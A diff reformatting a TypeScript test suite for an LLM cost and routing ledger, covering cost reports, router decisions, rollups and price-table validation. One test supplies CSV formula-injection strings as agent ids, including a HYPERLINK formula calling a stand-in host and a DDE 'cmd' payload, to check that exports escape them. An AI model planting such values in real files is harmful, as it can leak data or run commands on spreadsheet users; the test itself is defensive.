@@ -32,7 +32,16 @@ const LOCAL_PER_MS = (0.2 + 0.1 * 0.3) / 3_600_000;
 interface Scripted {
   at: number;
   e: CompletionEntry;
-  decision?: { route: string; strategy: string; agentId?: string; sensitive?: boolean; cats?: string[]; forced?: boolean; level?: string; reasons?: string[] };
+  decision?: {
+    route: string;
+    strategy: string;
+    agentId?: string;
+    sensitive?: boolean;
+    cats?: string[];
+    forced?: boolean;
+    level?: string;
+    reasons?: string[];
+  };
 }
 
 const base = (over: Partial<CompletionEntry>): CompletionEntry => ({
@@ -52,19 +61,130 @@ const base = (over: Partial<CompletionEntry>): CompletionEntry => ({
 
 const SCRIPT: Scripted[] = [
   // 40 days ago: only in "all"
-  { at: NOW - 40 * D, e: base({ promptTokens: 5000, completionTokens: 2000, latencyMs: 9000, overheadTokensIn: 2100, overheadTokensOut: 60, route: 'local', strategy: 'cost_optimized', agentId: 'alpha', tokensPerSecond: 30 }) },
+  {
+    at: NOW - 40 * D,
+    e: base({
+      promptTokens: 5000,
+      completionTokens: 2000,
+      latencyMs: 9000,
+      overheadTokensIn: 2100,
+      overheadTokensOut: 60,
+      route: 'local',
+      strategy: 'cost_optimized',
+      agentId: 'alpha',
+      tokensPerSecond: 30,
+    }),
+  },
   // 10 days ago: in month
-  { at: NOW - 10 * D, e: base({ model: 'llama-small', backend: 'openai-http', promptTokens: 1200, completionTokens: 640, latencyMs: 4000, overheadTokensIn: 700, overheadTokensOut: 1250, decisionId: 'dec-1', tokenCountMethod: 'estimate:chars/4', tokensPerSecond: 55 }), decision: { route: 'local_required', strategy: 'privacy_first', agentId: 'beta', sensitive: true, cats: ['email', 'phone'], level: 'low', reasons: ['privacy: email'] } },
+  {
+    at: NOW - 10 * D,
+    e: base({
+      model: 'llama-small',
+      backend: 'openai-http',
+      promptTokens: 1200,
+      completionTokens: 640,
+      latencyMs: 4000,
+      overheadTokensIn: 700,
+      overheadTokensOut: 1250,
+      decisionId: 'dec-1',
+      tokenCountMethod: 'estimate:chars/4',
+      tokensPerSecond: 55,
+    }),
+    decision: {
+      route: 'local_required',
+      strategy: 'privacy_first',
+      agentId: 'beta',
+      sensitive: true,
+      cats: ['email', 'phone'],
+      level: 'low',
+      reasons: ['privacy: email'],
+    },
+  },
   // 3 days ago: in week and month
-  { at: NOW - 3 * D, e: base({ promptTokens: 300, completionTokens: 900, latencyMs: 2500, ttftMs: 120, overheadTokensIn: 950, overheadTokensOut: 320, route: 'local', strategy: 'balanced', agentId: 'alpha', tokensPerSecond: 40 }) },
+  {
+    at: NOW - 3 * D,
+    e: base({
+      promptTokens: 300,
+      completionTokens: 900,
+      latencyMs: 2500,
+      ttftMs: 120,
+      overheadTokensIn: 950,
+      overheadTokensOut: 320,
+      route: 'local',
+      strategy: 'balanced',
+      agentId: 'alpha',
+      tokensPerSecond: 40,
+    }),
+  },
   // failed call: no gross, still overhead and local cost
-  { at: NOW - 3 * D + 5000, e: base({ promptTokens: 800, completionTokens: 0, latencyMs: 1500, overheadTokensIn: 90, overheadTokensOut: 820, route: 'local', strategy: 'balanced', agentId: 'alpha', ok: false, error: 'model crashed' }) },
+  {
+    at: NOW - 3 * D + 5000,
+    e: base({
+      promptTokens: 800,
+      completionTokens: 0,
+      latencyMs: 1500,
+      overheadTokensIn: 90,
+      overheadTokensOut: 820,
+      route: 'local',
+      strategy: 'balanced',
+      agentId: 'alpha',
+      ok: false,
+      error: 'model crashed',
+    }),
+  },
   // 20 hours ago: in day
-  { at: NOW - 20 * H, e: base({ model: 'llama-small', backend: 'openai-http', promptTokens: 2048, completionTokens: 512, latencyMs: 3100, ttftMs: 300, overheadTokensIn: 530, overheadTokensOut: 2100, decisionId: 'dec-2', tokensPerSecond: 60 }), decision: { route: 'local', strategy: 'latency_optimized', agentId: 'gamma', level: 'medium', reasons: ['simple task', 'local healthy'] } },
+  {
+    at: NOW - 20 * H,
+    e: base({
+      model: 'llama-small',
+      backend: 'openai-http',
+      promptTokens: 2048,
+      completionTokens: 512,
+      latencyMs: 3100,
+      ttftMs: 300,
+      overheadTokensIn: 530,
+      overheadTokensOut: 2100,
+      decisionId: 'dec-2',
+      tokensPerSecond: 60,
+    }),
+    decision: {
+      route: 'local',
+      strategy: 'latency_optimized',
+      agentId: 'gamma',
+      level: 'medium',
+      reasons: ['simple task', 'local healthy'],
+    },
+  },
   // 30 minutes ago: in hour; agent id with a comma and a quote to exercise CSV quoting; no route/strategy/decision
-  { at: NOW - 30 * 60_000, e: base({ promptTokens: 150, completionTokens: 1500, latencyMs: 6000, ttftMs: 80, overheadTokensIn: 1540, overheadTokensOut: 25, agentId: 'team "x", a', tokensPerSecond: 45 }) },
+  {
+    at: NOW - 30 * 60_000,
+    e: base({
+      promptTokens: 150,
+      completionTokens: 1500,
+      latencyMs: 6000,
+      ttftMs: 80,
+      overheadTokensIn: 1540,
+      overheadTokensOut: 25,
+      agentId: 'team "x", a',
+      tokensPerSecond: 45,
+    }),
+  },
   // exactly now
-  { at: NOW, e: base({ promptTokens: 100, completionTokens: 100, latencyMs: 500, ttftMs: 50, overheadTokensIn: 120, overheadTokensOut: 110, overheadTokenMethod: 'estimate:chars/4', route: 'local', strategy: 'balanced', tokensPerSecond: 50 }) },
+  {
+    at: NOW,
+    e: base({
+      promptTokens: 100,
+      completionTokens: 100,
+      latencyMs: 500,
+      ttftMs: 50,
+      overheadTokensIn: 120,
+      overheadTokensOut: 110,
+      overheadTokenMethod: 'estimate:chars/4',
+      route: 'local',
+      strategy: 'balanced',
+      tokensPerSecond: 50,
+    }),
+  },
 ];
 // decisions without completions (routed to cloud)
 const CLOUD_DECISIONS = [
@@ -112,10 +232,33 @@ function hand(host: string, keep: (s: Scripted) => boolean, key: (s: Scripted) =
 function addLate(h: Sum): Sum {
   const p = priceOf(RAW.hostModel);
   const g = (70 * p.input + 30 * p.output) / 1e6;
-  return { ...h, calls: h.calls + 1, ok: h.ok + 1, pt: h.pt + 70, ct: h.ct + 30, ms: h.ms + 800, gross: h.gross + g, local: h.local + 800 * LOCAL_PER_MS };
+  return {
+    ...h,
+    calls: h.calls + 1,
+    ok: h.ok + 1,
+    pt: h.pt + 70,
+    ct: h.ct + 30,
+    ms: h.ms + 800,
+    gross: h.gross + g,
+    local: h.local + 800 * LOCAL_PER_MS,
+  };
 }
 
-function expectRow(row: { calls: number; okCalls: number; promptTokens: number; completionTokens: number; overheadTokensIn: number; overheadTokensOut: number; grossUsd: number; overheadUsd: number; localCostUsd: number; netUsd: number }, h: Sum) {
+function expectRow(
+  row: {
+    calls: number;
+    okCalls: number;
+    promptTokens: number;
+    completionTokens: number;
+    overheadTokensIn: number;
+    overheadTokensOut: number;
+    grossUsd: number;
+    overheadUsd: number;
+    localCostUsd: number;
+    netUsd: number;
+  },
+  h: Sum,
+) {
   expect(row.calls).toBe(h.calls);
   expect(row.okCalls).toBe(h.ok);
   expect(row.promptTokens).toBe(h.pt);
@@ -169,8 +312,18 @@ describe('Ledger', () => {
     for (const c of CLOUD_DECISIONS) {
       now = c.at;
       ledger.recordDecision({
-        decisionId: c.id, route: c.route, strategy: c.strategy, complexityLevel: 'high', complexityScore: 0.9, sensitive: false,
-        privacyCategories: [], reasons: ['complex task'], reasonCodes: ['complexity_high'], estimatedInputTokens: 3000, estimatedOutputTokens: 2000, latencyMs: 3,
+        decisionId: c.id,
+        route: c.route,
+        strategy: c.strategy,
+        complexityLevel: 'high',
+        complexityScore: 0.9,
+        sensitive: false,
+        privacyCategories: [],
+        reasons: ['complex task'],
+        reasonCodes: ['complexity_high'],
+        estimatedInputTokens: 3000,
+        estimatedOutputTokens: 2000,
+        latencyMs: 3,
         forced: c.forced,
       });
     }
@@ -196,7 +349,13 @@ describe('Ledger', () => {
     expect(r.method).toMatch(/overhead/i);
     expect(r.overheadTokenMethods).toEqual({ '(not named)': 6, 'estimate:chars/4': 1 });
     expect(r.method).toContain('overhead tokens counted by: (not named) (6), estimate:chars/4 (1)');
-    expect(r.decisions).toEqual({ total: 4, byRoute: { cloud: 2, local: 1, local_required: 1 }, forced: 1, sensitive: 1, byReason: { complexity_high: 2, unclassified: 3 } });
+    expect(r.decisions).toEqual({
+      total: 4,
+      byRoute: { cloud: 2, local: 1, local_required: 1 },
+      forced: 1,
+      sensitive: 1,
+      byReason: { complexity_high: 2, unclassified: 3 },
+    });
     // the user's own figures only: no block naming other products or other ways of counting
     expect(r).not.toHaveProperty('comparisons');
     expect(JSON.stringify(r)).not.toMatch(/houtini|LiteLLM|design's source/i);
@@ -293,7 +452,7 @@ describe('Ledger', () => {
   });
 
   it('escapes CSV cells a spreadsheet would run as a formula (agent ids come from tool arguments)', () => {
-    const hostile = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)'];
+    const hostile = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)'];
     for (const agentId of hostile) ledger.recordCompletion(base({ agentId, promptTokens: 10, completionTokens: 10, route: 'local' }));
     const r = ledger.report({ period: 'all', groupBy: 'agent' });
     // ids are trimmed when recorded; a cell starting with a tab or CR is escaped too
@@ -321,12 +480,16 @@ describe('Ledger', () => {
     expect(after).toEqual(before);
     expect(ledger.backendStats()).toEqual(stats);
     // migrations ran once
-    expect((db.prepare("SELECT COUNT(*) AS n FROM schema_migrations WHERE module = 'ledger'").get() as { n: number }).n).toBe(migrations.length);
+    expect((db.prepare("SELECT COUNT(*) AS n FROM schema_migrations WHERE module = 'ledger'").get() as { n: number }).n).toBe(
+      migrations.length,
+    );
   });
 
   it('rejects bad queries with messages that say how to fix them', () => {
     expect(() => ledger.report({ period: 'year' as never })).toThrow(/unknown period "year"; use one of hour, day, week, month, all/);
-    expect(() => ledger.report({ groupBy: 'team' as never })).toThrow(/unknown groupBy "team"; use one of model, route, strategy, agent, day, none/);
+    expect(() => ledger.report({ groupBy: 'team' as never })).toThrow(
+      /unknown groupBy "team"; use one of model, route, strategy, agent, day, none/,
+    );
     expect(() => ledger.report({ from: '2026-11-20', to: '2026-11-10' })).toThrow(/"from" \(2026-11-20\) is after "to" \(2026-11-10\)/);
     expect(() => ledger.report({ from: 'yesterday' })).toThrow(/invalid "from" date "yesterday"; use an ISO 8601 date/);
     expect(() => ledger.report({ to: '2026-13-45' })).toThrow(/invalid "to" date/);
@@ -334,8 +497,12 @@ describe('Ledger', () => {
     expect(() => ledger.timeseries({ bucket: 'minute' as never })).toThrow(/unknown bucket "minute"/);
     expect(() => ledger.recordCompletion(base({ promptTokens: -5 }))).toThrow(/promptTokens must be a finite number >= 0/);
     expect(() => ledger.recordCompletion(base({ model: ' ' }))).toThrow(/model must be a non-empty string/);
-    expect(() => new Ledger({ db, prices: loadPriceTable(), localCost: { watts: 60 } })).toThrow(/watts and localCost.usdPerKwh go together/);
-    expect(() => new Ledger({ db, prices: loadPriceTable(), localCost: { usdPerHour: -1 } })).toThrow(/usdPerHour must be a finite number >= 0/);
+    expect(() => new Ledger({ db, prices: loadPriceTable(), localCost: { watts: 60 } })).toThrow(
+      /watts and localCost.usdPerKwh go together/,
+    );
+    expect(() => new Ledger({ db, prices: loadPriceTable(), localCost: { usdPerHour: -1 } })).toThrow(
+      /usdPerHour must be a finite number >= 0/,
+    );
   });
 
   it('per-backend stats use nearest-rank percentiles of successful calls', () => {
@@ -362,7 +529,10 @@ describe('Ledger', () => {
 
   it('upgrades a version-1 ledger database in place', () => {
     const f = join(dir, 'v1.db');
-    const v1 = openDatabase(f, migrations.filter((m) => m.version === 1));
+    const v1 = openDatabase(
+      f,
+      migrations.filter((m) => m.version === 1),
+    );
     v1.prepare(
       `INSERT INTO ledger_completions (ts, model, backend, prompt_tokens, completion_tokens, token_count_method, latency_ms, ttft_ms,
         tokens_per_second, overhead_in, overhead_out, ok) VALUES (?, 'm', 'gguf', 1000, 1000, 'tokenizer', 10, NULL, 5, 0, 0, 1)`,
@@ -388,16 +558,36 @@ describe('Ledger', () => {
     expect(d.byStrategy).toEqual({ privacy_first: 1, latency_optimized: 1, quality_optimized: 1, balanced: 1 });
     expect(d.byComplexity).toEqual({ low: 1, medium: 1, high: 2 });
     // by code; texts recorded without codes are classified by their wording, and one no policy path writes counts as unclassified
-    expect(d.byReason).toEqual([{ code: 'unclassified', count: 3 }, { code: 'complexity_high', count: 2 }]);
+    expect(d.byReason).toEqual([
+      { code: 'unclassified', count: 3 },
+      { code: 'complexity_high', count: 2 },
+    ]);
     expect(d.privacyCatches).toEqual({ total: 1, byCategory: { email: 1, phone: 1 } });
     // a second record of the same decision is ignored
-    ledger.recordDecision({ decisionId: 'dec-3', route: 'local', strategy: 'balanced', complexityLevel: 'low', complexityScore: 0, sensitive: false, privacyCategories: [], reasons: [], estimatedInputTokens: 1, estimatedOutputTokens: 1, latencyMs: 1, forced: false });
+    ledger.recordDecision({
+      decisionId: 'dec-3',
+      route: 'local',
+      strategy: 'balanced',
+      complexityLevel: 'low',
+      complexityScore: 0,
+      sensitive: false,
+      privacyCategories: [],
+      reasons: [],
+      estimatedInputTokens: 1,
+      estimatedOutputTokens: 1,
+      latencyMs: 1,
+      forced: false,
+    });
     expect(ledger.decisionStats().byRoute.cloud).toBe(2);
   });
 
   it('timeseries buckets by UTC day with running gross and net totals', () => {
     const t = ledger.timeseries({ period: 'all', bucket: 'day' });
-    const h = hand(RAW.hostModel, () => true, (s) => new Date(s.at).toISOString().slice(0, 10));
+    const h = hand(
+      RAW.hostModel,
+      () => true,
+      (s) => new Date(s.at).toISOString().slice(0, 10),
+    );
     const days = [...h.keys()].sort();
     expect(t.points.map((p) => p.t)).toEqual(days);
     let g = 0;
@@ -463,7 +653,20 @@ describe('Ledger', () => {
     let n = 0;
     const off = ledger.onChange(() => n++);
     ledger.recordCompletion(base({ promptTokens: 1, completionTokens: 1 }));
-    ledger.recordDecision({ decisionId: 'new', route: 'local', strategy: 'balanced', complexityLevel: 'low', complexityScore: 0, sensitive: false, privacyCategories: [], reasons: [], estimatedInputTokens: 1, estimatedOutputTokens: 1, latencyMs: 1, forced: false });
+    ledger.recordDecision({
+      decisionId: 'new',
+      route: 'local',
+      strategy: 'balanced',
+      complexityLevel: 'low',
+      complexityScore: 0,
+      sensitive: false,
+      privacyCategories: [],
+      reasons: [],
+      estimatedInputTokens: 1,
+      estimatedOutputTokens: 1,
+      latencyMs: 1,
+      forced: false,
+    });
     off();
     ledger.recordCompletion(base({}));
     expect(n).toBe(2);
@@ -473,10 +676,40 @@ describe('Ledger', () => {
     const p = priceOf(RAW.hostModel);
     now = NOW - 10 * 60_000;
     // by reference: the host wrote a path (40 tokens of arguments) and did not read the 6,000-token file
-    ledger.recordCompletion(base({ promptTokens: 6100, completionTokens: 250, latencyMs: 3000, overheadTokensIn: 260, overheadTokensOut: 40, inputMode: 'reference', avoidedHostInputTokens: 6000 }));
-    ledger.recordCompletion(base({ promptTokens: 0, completionTokens: 0, overheadTokensIn: 30, overheadTokensOut: 40, inputMode: 'reference', avoidedHostInputTokens: 6000, ok: false, error: 'x' }));
+    ledger.recordCompletion(
+      base({
+        promptTokens: 6100,
+        completionTokens: 250,
+        latencyMs: 3000,
+        overheadTokensIn: 260,
+        overheadTokensOut: 40,
+        inputMode: 'reference',
+        avoidedHostInputTokens: 6000,
+      }),
+    );
+    ledger.recordCompletion(
+      base({
+        promptTokens: 0,
+        completionTokens: 0,
+        overheadTokensIn: 30,
+        overheadTokensOut: 40,
+        inputMode: 'reference',
+        avoidedHostInputTokens: 6000,
+        ok: false,
+        error: 'x',
+      }),
+    );
     // by value: the host pasted the same material into the call
-    ledger.recordCompletion(base({ promptTokens: 6100, completionTokens: 250, latencyMs: 3000, overheadTokensIn: 260, overheadTokensOut: 6030, inputMode: 'value' }));
+    ledger.recordCompletion(
+      base({
+        promptTokens: 6100,
+        completionTokens: 250,
+        latencyMs: 3000,
+        overheadTokensIn: 260,
+        overheadTokensOut: 6030,
+        inputMode: 'value',
+      }),
+    );
     now = NOW;
     const r = ledger.report({ period: 'hour' });
     const ref = r.byInputMode.reference;
@@ -501,8 +734,12 @@ describe('Ledger', () => {
     expect(ledger.report({ period: 'all' }).byInputMode).toEqual(before);
     // bad values are refused with what to fix
     expect(() => ledger.recordCompletion(base({ inputMode: 'file' as never }))).toThrow(/inputMode must be "value" or "reference"/);
-    expect(() => ledger.recordCompletion(base({ inputMode: 'value', avoidedHostInputTokens: 10 }))).toThrow(/avoidedHostInputTokens applies to inputMode "reference"/);
-    expect(() => ledger.recordCompletion(base({ inputMode: 'reference', avoidedHostInputTokens: -1 }))).toThrow(/avoidedHostInputTokens must be a finite number >= 0/);
+    expect(() => ledger.recordCompletion(base({ inputMode: 'value', avoidedHostInputTokens: 10 }))).toThrow(
+      /avoidedHostInputTokens applies to inputMode "reference"/,
+    );
+    expect(() => ledger.recordCompletion(base({ inputMode: 'reference', avoidedHostInputTokens: -1 }))).toThrow(
+      /avoidedHostInputTokens must be a finite number >= 0/,
+    );
   });
 
   it('live backend stats: counts from counters of every process (kept across rollups), percentiles of the newest calls', () => {
@@ -520,7 +757,10 @@ describe('Ledger', () => {
       expect(ledger.liveBackendStats(2)[0]).toMatchObject({ calls: 6, latencyP50: 500, latencyP99: 700 });
       expect(other.liveBackendStats()).toEqual(live);
       other.rollup({ olderThanDays: 1 });
-      expect(ledger.liveBackendStats().map((x) => [x.backend, x.calls, x.errors])).toEqual([['gguf', 6, 1], ['openai-http', 3, 1]]);
+      expect(ledger.liveBackendStats().map((x) => [x.backend, x.calls, x.errors])).toEqual([
+        ['gguf', 6, 1],
+        ['openai-http', 3, 1],
+      ]);
     } finally {
       db2.close();
     }
@@ -529,12 +769,31 @@ describe('Ledger', () => {
   it('rolls rows past the retention age up by UTC day, and every report keeps its totals', () => {
     // a decision older than the cut-off whose completion is newer: its route must still group that completion
     now = NOW - 5 * D;
-    ledger.recordDecision({ decisionId: 'dec-late', route: 'local_required', strategy: 'privacy_first', complexityLevel: 'low', complexityScore: 0.1, sensitive: true, privacyCategories: ['email', 'email'], reasons: ['kept local', 'kept local'], estimatedInputTokens: 10, estimatedOutputTokens: 10, latencyMs: 1, forced: false });
+    ledger.recordDecision({
+      decisionId: 'dec-late',
+      route: 'local_required',
+      strategy: 'privacy_first',
+      complexityLevel: 'low',
+      complexityScore: 0.1,
+      sensitive: true,
+      privacyCategories: ['email', 'email'],
+      reasons: ['kept local', 'kept local'],
+      estimatedInputTokens: 10,
+      estimatedOutputTokens: 10,
+      latencyMs: 1,
+      forced: false,
+    });
     now = NOW - H;
     ledger.recordCompletion(base({ promptTokens: 70, completionTokens: 30, latencyMs: 800, decisionId: 'dec-late', tokensPerSecond: 20 }));
     now = NOW;
     const groupBys = ['none', 'model', 'route', 'strategy', 'agent', 'day'] as const;
-    const windows = [{ period: 'all' as const }, { period: 'month' as const }, { period: 'week' as const }, { from: '2026-11-11', to: '2026-11-19' }, { from: '2026-10-01' }];
+    const windows = [
+      { period: 'all' as const },
+      { period: 'month' as const },
+      { period: 'week' as const },
+      { from: '2026-11-11', to: '2026-11-19' },
+      { from: '2026-10-01' },
+    ];
     const snapshot = () => ({
       reports: windows.flatMap((w) => groupBys.map((groupBy) => ledger.report({ ...w, groupBy }))),
       timeseries: ledger.timeseries({ period: 'all', bucket: 'day' }),
@@ -542,7 +801,9 @@ describe('Ledger', () => {
       backends: ledger.backendStats().map((b) => ({ backend: b.backend, model: b.model, calls: b.calls, errors: b.errors })),
     });
     const before = snapshot();
-    const rows = () => (db.prepare('SELECT (SELECT count(*) FROM ledger_completions) + (SELECT count(*) FROM router_decisions) AS n').get() as { n: number }).n;
+    const rows = () =>
+      (db.prepare('SELECT (SELECT count(*) FROM ledger_completions) + (SELECT count(*) FROM router_decisions) AS n').get() as { n: number })
+        .n;
     const rowsBefore = rows();
 
     // keep 2 days: everything before 2026-11-19T00:00Z is rolled up (the script has entries 40, 10, 5 and 3 days old)
@@ -550,7 +811,9 @@ describe('Ledger', () => {
     expect(r.completions).toBe(4);
     expect(r.decisions).toBe(2); // dec-1 and dec-4; dec-late stays while its completion is raw
     expect(rows()).toBe(rowsBefore - 6);
-    expect((db.prepare('SELECT min(ts) AS t FROM ledger_completions').get() as { t: number }).t).toBeGreaterThanOrEqual(Date.parse('2026-11-19T00:00:00Z'));
+    expect((db.prepare('SELECT min(ts) AS t FROM ledger_completions').get() as { t: number }).t).toBeGreaterThanOrEqual(
+      Date.parse('2026-11-19T00:00:00Z'),
+    );
     expect(snapshot()).toEqual(before);
     // the hand calculation still holds after the rollup
     expectRow(ledger.report({ period: 'all' }).totals, addLate(hand(RAW.hostModel, () => true).get('all')!));
@@ -567,7 +830,11 @@ describe('Ledger', () => {
       expect(other.rollup({ olderThanDays: 1 })).toMatchObject({ completions: 4 });
       expect((db.prepare('SELECT count(*) AS n FROM ledger_completions').get() as { n: number }).n).toBe(0);
       expect((db.prepare('SELECT count(*) AS n FROM router_decisions').get() as { n: number }).n).toBe(0);
-      for (const groupBy of groupBys) expect(ledger.report({ period: 'all', groupBy }), groupBy).toEqual({ ...before.reports[groupBys.indexOf(groupBy)], to: new Date(now).toISOString() });
+      for (const groupBy of groupBys)
+        expect(ledger.report({ period: 'all', groupBy }), groupBy).toEqual({
+          ...before.reports[groupBys.indexOf(groupBy)],
+          to: new Date(now).toISOString(),
+        });
       expect((({ decisionLatencyP50Ms: _, ...rest }) => rest)(ledger.decisionStats())).toEqual(before.decisions);
       expect(ledger.decisionStats().privacyCatches.byCategory.email).toBe(2); // once per decision, as before
     } finally {
@@ -601,26 +868,56 @@ describe('loadPriceTable', () => {
 
   it('merges a price file and config overrides: replace, add, default cache prices, host model', () => {
     const f = join(dir, 'prices.json');
-    writeFileSync(f, JSON.stringify({ asOf: '2026-11-01', prices: [{ model: 'claude-sonnet-4-5', input: 2.5, output: 12 }, { model: 'my-gateway-model', input: 0.5, output: 1.5 }] }));
-    const t = loadPriceTable(f, { hostModel: 'my-gateway-model', prices: [{ model: 'claude-haiku-4-5-20251001', input: 0.9, output: 4.5, cacheWrite: 1, cacheRead: 0.05 }] });
+    writeFileSync(
+      f,
+      JSON.stringify({
+        asOf: '2026-11-01',
+        prices: [
+          { model: 'claude-sonnet-4-5', input: 2.5, output: 12 },
+          { model: 'my-gateway-model', input: 0.5, output: 1.5 },
+        ],
+      }),
+    );
+    const t = loadPriceTable(f, {
+      hostModel: 'my-gateway-model',
+      prices: [{ model: 'claude-haiku-4-5-20251001', input: 0.9, output: 4.5, cacheWrite: 1, cacheRead: 0.05 }],
+    });
     expect(t.asOf).toBe('2026-11-01');
     expect(t.hostModel).toBe('my-gateway-model');
-    expect(t.prices.find((p) => p.model === 'claude-sonnet-4-5')).toMatchObject({ input: 2.5, output: 12, cacheWrite: 3.125, cacheRead: 0.25 });
-    expect(t.prices.find((p) => p.model === 'my-gateway-model')).toMatchObject({ input: 0.5, output: 1.5, cacheWrite: 0.625, cacheRead: 0.05 });
+    expect(t.prices.find((p) => p.model === 'claude-sonnet-4-5')).toMatchObject({
+      input: 2.5,
+      output: 12,
+      cacheWrite: 3.125,
+      cacheRead: 0.25,
+    });
+    expect(t.prices.find((p) => p.model === 'my-gateway-model')).toMatchObject({
+      input: 0.5,
+      output: 1.5,
+      cacheWrite: 0.625,
+      cacheRead: 0.05,
+    });
     // an override naming an alias replaces that model's prices and keeps its id
     expect(t.prices.find((p) => p.model === 'claude-haiku-4-5')).toMatchObject({ input: 0.9, output: 4.5, cacheWrite: 1, cacheRead: 0.05 });
     expect(t.prices.filter((p) => p.model.startsWith('claude-haiku-4-5'))).toHaveLength(1);
   });
 
   it('rejects bad prices with clear messages', () => {
-    expect(() => loadPriceTable(undefined, { prices: [{ model: 'x', input: -1, output: 2 }] })).toThrow(/price "input" of model x is negative \(-1\)/);
-    expect(() => loadPriceTable(undefined, { prices: [{ model: 'x', input: 1 } as never] })).toThrow(/price "output" of model x must be a number/);
-    expect(() => loadPriceTable(undefined, { hostModel: 'gpt-4o' })).toThrow(/unknown host model "gpt-4o"; known models: claude-opus-4-5, claude-sonnet-4-5/);
+    expect(() => loadPriceTable(undefined, { prices: [{ model: 'x', input: -1, output: 2 }] })).toThrow(
+      /price "input" of model x is negative \(-1\)/,
+    );
+    expect(() => loadPriceTable(undefined, { prices: [{ model: 'x', input: 1 } as never] })).toThrow(
+      /price "output" of model x must be a number/,
+    );
+    expect(() => loadPriceTable(undefined, { hostModel: 'gpt-4o' })).toThrow(
+      /unknown host model "gpt-4o"; known models: claude-opus-4-5, claude-sonnet-4-5/,
+    );
     expect(() => loadPriceTable(join(dir, 'missing.json'))).toThrow(/cannot read price file .*missing.json/);
     const bad = join(dir, 'bad.json');
     writeFileSync(bad, '{ nope');
     expect(() => loadPriceTable(bad)).toThrow(/is not valid JSON/);
     expect(() => loadPriceTable(undefined, { asOf: 'last week' })).toThrow(/"asOf" must be the ISO date/);
-    expect(() => loadPriceTable(undefined, { prices: [{ model: 'a', input: 1, output: 1, aliases: ['claude-sonnet-4-5'] }] })).toThrow(/listed twice/);
+    expect(() => loadPriceTable(undefined, { prices: [{ model: 'a', input: 1, output: 1, aliases: ['claude-sonnet-4-5'] }] })).toThrow(
+      /listed twice/,
+    );
   });
 });
